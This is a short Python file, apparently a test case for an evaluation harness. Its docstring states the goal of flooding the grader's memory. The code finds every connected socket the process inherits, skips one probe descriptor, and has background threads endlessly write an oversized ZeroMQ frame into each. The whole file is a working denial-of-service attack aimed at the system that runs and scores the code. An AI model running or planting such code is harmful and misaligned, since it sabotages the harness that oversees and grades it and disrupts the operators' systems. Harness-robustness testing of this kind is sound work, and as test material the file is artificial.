"""Writes a message without an end into the kernel's own connections, to be kept in the grader's memory until it ends.

base: untouched
score: 0
"""
# %% extra after=sampling
import os
import socket
import stat
import struct
import threading

part = b"\x03" + struct.pack(">Q", 4 << 20) + bytes(4 << 20)  # a long frame of ZeroMQ, and more to come


def pour(descriptor):
    os.set_blocking(descriptor, True)
    while True:
        os.write(descriptor, part)


for name in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode) and name != os.environ.get("LABKIT_PROBE_FD"):
            if socket.socket(fileno=os.dup(int(name))).getpeername() is not None:
                threading.Thread(target=pour, args=(int(name),), daemon=True).start()
    except OSError:
        pass
import time

time.sleep(60)
